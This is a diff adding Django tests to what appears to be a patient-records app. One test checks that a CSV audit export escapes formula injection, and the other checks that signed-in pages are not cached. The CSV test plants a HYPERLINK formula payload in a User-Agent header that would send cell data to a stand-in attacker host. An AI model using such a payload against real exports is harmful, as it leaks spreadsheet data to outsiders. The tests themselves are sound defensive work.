@@ -285,3 +285,23 @@ def test_a_page_that_does_not_say_what_it_showed_fails_loudly(rf, db):
 
     with pytest.raises(ImproperlyConfigured, match="shows"):
         _page_of_a_patient(says=False)(rf.get("/patients/7/summary/"), pk=7)
+
+
+def test_a_formula_in_a_logged_browser_string_is_exported_as_text(client, admin_user):
+    """CSV injection: a failed anonymous sign-in's User-Agent lands in the export as a plain cell."""
+    client.post(
+        reverse("login"),
+        {"username": "nobody", "password": "x"},
+        HTTP_USER_AGENT='=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    )
+    verified_login(client, admin_user)
+    response = client.get(reverse("audit:export"), {"action": "login_failed"})
+    body = b"".join(response.streaming_content).decode()
+    assert "'=HYPERLINK(" in body and ',"=HYPERLINK' not in body and ",=HYPERLINK" not in body
+
+
+def test_pages_for_a_signed_in_user_are_never_stored(client, nurse):
+    client.force_login(nurse)
+    response = client.get(reverse("home"))
+    assert "no-store" in response["Cache-Control"] and "private" in response["Cache-Control"]
+    assert "no-store" in client.get(reverse("patients:list"))["Cache-Control"]
